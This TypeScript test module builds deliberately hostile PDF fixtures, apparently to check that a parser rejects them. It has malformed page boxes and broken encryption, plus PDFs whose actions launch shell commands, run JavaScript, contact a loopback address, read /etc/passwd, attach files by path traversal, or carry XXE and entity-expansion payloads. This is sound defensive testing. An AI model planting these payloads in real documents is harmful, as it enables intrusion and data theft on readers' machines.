import { type HostileFile, hostile } from './hostile-file.ts';
import { LOW_PAGE, MENU_TEXT, onePage, stream } from './write-pdf.ts';

const SECRET = `/O <${'5a'.repeat(32)}> /U <${'a5'.repeat(32)}>`;
const locked = (entries: string) =>
  onePage({ trailer: '/ID [<00> <00>] /Encrypt 6 0 R', extra: [`<< /Filter /Standard ${entries} >>`] });
const boxed = (mediaBox: string, page = '') => onePage({ mediaBox, page });

/** Pages of impossible sizes, and encryption without a key. */
export function oddPagesAndLocks(): HostileFile[] {
  return [
    hostile('page-of-no-size.pdf', boxed('[0 0 0 0]')),
    hostile('page-upside-down.pdf', boxed('[595 842 0 0]')),
    hostile('page-below-zero.pdf', boxed('[-595 -842 -1 -1]')),
    hostile('page-of-a-billion-points.pdf', boxed('[0 0 1000000000 1000000000]')),
    hostile('page-of-a-hair.pdf', boxed('[0 0 0.0001 842]')),
    hostile('page-thin-and-endless.pdf', boxed('[0 0 1 100000000]')),
    hostile('page-of-words.pdf', boxed('[(a) /b null true]')),
    hostile('page-box-is-the-page.pdf', boxed('3 0 R')),
    hostile('page-turned-askew.pdf', boxed('[0 0 595 842]', '/Rotate 45')),
    hostile('page-turned-a-billion-times.pdf', boxed('[0 0 595 842]', '/Rotate 90000000090')),
    hostile('page-in-giant-units.pdf', boxed('[0 0 595 842]', '/UserUnit 1000000')),
    hostile('page-cropped-away.pdf', boxed('[0 0 595 842]', '/CropBox [900 900 999 999]')),
    hostile('page-empty.pdf', onePage({ content: '' }), 'no_text'),
    hostile('page-empty-and-giant.pdf', onePage({ content: '', mediaBox: '[0 0 1000000000 1000000000]' })),
    hostile('page-empty-and-thin.pdf', onePage({ content: '', mediaBox: '[0 0 1 100000000]' })),
    hostile('page-empty-of-no-size.pdf', onePage({ content: '', mediaBox: '[0 0 0 0]' })),
    hostile(
      'page-drawn-without-letters.pdf',
      onePage({ content: '0 600 m 595 618 l S 60 605 400 9 re f', mediaBox: LOW_PAGE }),
      'no_text',
    ),
    hostile('locked.pdf', locked(`/V 1 /R 2 /P -4 ${SECRET}`), 'file_encrypted'),
    hostile('locked-128.pdf', locked(`/V 2 /R 3 /Length 128 /P -4 ${SECRET}`), 'file_encrypted'),
    hostile('locked-by-version-99.pdf', locked(`/V 99 /R 99 /P -4 ${SECRET}`), 'file_encrypted', 'file_damaged'),
    hostile('locked-with-nothing.pdf', locked(''), 'file_encrypted', 'file_damaged'),
    hostile(
      'locked-by-an-unknown-hand.pdf',
      onePage({ trailer: '/Encrypt << /Filter /NoSuchHandler /V 1 >>' }),
      'file_encrypted',
      'file_damaged',
    ),
    hostile('locked-in-a-ring.pdf', onePage({ trailer: '/ID [<00> <00>] /Encrypt 6 0 R', extra: ['6 0 R'] })),
    hostile(
      'locked-with-an-endless-key.pdf',
      locked(
        `/V 5 /R 6 /Length 2000000000 /P -4 /O <${'5a'.repeat(48)}> /U <${'a5'.repeat(48)}> /OE <${'00'.repeat(32)}> /UE <${'00'.repeat(32)}> /Perms <${'00'.repeat(16)}>`,
      ),
      'file_encrypted',
      'file_damaged',
    ),
  ];
}

export type Outside = {
  /** A loopback server's address, which nobody may contact. */
  address: string;
  /** An absolute path where no file may appear. */
  canary: string;
};

const action = (entries: string) =>
  onePage({
    catalog: '/OpenAction 6 0 R /AA << /WC 6 0 R /DP 6 0 R >>',
    page: '/AA << /O 6 0 R /C 6 0 R >>',
    extra: [`<< /Type /Action ${entries} >>`],
  });
const noted = (note: string, ...extra: (string | Buffer)[]) =>
  onePage({ page: '/Annots [6 0 R]', extra: [`<< /Type /Annot /Rect [0 0 595 842] ${note} >>`, ...extra] });

/** PDFs that try to run something, to contact somebody or to write a file. Otherwise each is a valid menu. */
export function reachingOut({ address, canary }: Outside): HostileFile[] {
  const script =
    `app.launchURL("${address}/js"); this.exportDataObject({cName: "x", nLaunch: 2}); while (true) {}`.replace(
      /[()\\]/g,
      '\\$&',
    );
  const launch = `/S /Launch /F (${canary}) /Unix (touch ${canary}) /Win << /F (cmd.exe) /P (/c echo > ${canary}) >>`;
  return [
    hostile('runs-script.pdf', action(`/S /JavaScript /JS (${script})`), 'draft'),
    hostile(
      'runs-script-by-name.pdf',
      onePage({ catalog: `/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (${script}) >>] >> >>` }),
      'draft',
    ),
    hostile('runs-program.pdf', action(launch), 'draft'),
    hostile('runs-program-on-click.pdf', noted(`/Subtype /Link /A << ${launch} >>`), 'draft'),
    hostile('opens-address.pdf', action(`/S /URI /URI (${address}/uri)`), 'draft'),
    hostile('sends-form.pdf', action(`/S /SubmitForm /F << /FS /URL /F (${address}/form) >> /Fields []`), 'draft'),
    hostile('imports-data.pdf', action(`/S /ImportData /F << /FS /URL /F (${address}/data) >>`), 'draft'),
    hostile('opens-other-file.pdf', action('/S /GoToR /F (/etc/passwd) /D [0 /Fit]'), 'draft'),
    hostile('chains-actions.pdf', action(`/S /URI /URI (${address}/chain) /Next 6 0 R`), 'draft'),
    hostile(
      'content-from-address.pdf',
      onePage({ contents: stream(`/F << /FS /URL /F (${address}/content) >> /FFilter /FlateDecode`, MENU_TEXT) }),
    ),
    hostile('content-from-file.pdf', onePage({ contents: stream('/F (/etc/passwd)', MENU_TEXT) })),
    hostile(
      'picture-from-address.pdf',
      onePage({
        content: `${MENU_TEXT} /X Do`,
        resources: '/XObject << /X 6 0 R >>',
        extra: [stream(`/Type /XObject /Subtype /Image /Width 9 /Height 9 /F (${address}/picture.jpg)`, '')],
      }),
    ),
    hostile(
      'page-from-other-file.pdf',
      onePage({
        content: `${MENU_TEXT} /X Do`,
        resources: '/XObject << /X 6 0 R >>',
        extra: [
          stream(
            `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F << /FS /URL /F (${address}/ref.pdf) >> /Page 0 >>`,
            '',
          ),
        ],
      }),
    ),
    hostile(
      'font-from-address.pdf',
      onePage({
        font: '<< /Type /Font /Subtype /TrueType /BaseFont /Far /FontDescriptor 6 0 R >>',
        extra: [
          '<< /Type /FontDescriptor /FontName /Far /Flags 32 /FontFile2 7 0 R >>',
          stream(`/F << /FS /URL /F (${address}/font) >>`, ''),
        ],
      }),
    ),
    hostile(
      'carries-file.pdf',
      noted(
        `/Subtype /FileAttachment /FS << /Type /Filespec /F (../../../../${canary}) /UF (${canary}) /EF << /F 7 0 R >> >>`,
        stream('/Type /EmbeddedFile', 'evil'),
      ),
      'draft',
    ),
    hostile(
      'carries-film.pdf',
      noted(
        '/Subtype /Screen /A << /S /Rendition /OP 0 /R 7 0 R >>',
        `<< /S /MR /C << /S /MCD /CT (video/mp4) /D << /FS /URL /F (${address}/film) >> >> >>`,
      ),
      'draft',
    ),
    hostile(
      'carries-forms-of-xml.pdf',
      onePage({
        catalog: '/AcroForm << /XFA 6 0 R /Fields [] >>',
        extra: [
          stream(
            '',
            `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c SYSTEM "${address}/xxe">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">&b;&c;</xdp:xdp>`,
          ),
        ],
      }),
      'draft',
    ),
    hostile(
      'carries-metadata-bomb.pdf',
      onePage({
        catalog: '/Metadata 6 0 R',
        extra: [stream('/Type /Metadata /Subtype /XML', `<?xpacket?>${'<x>'.repeat(50_000)}`)],
      }),
      'draft',
    ),
  ];
}
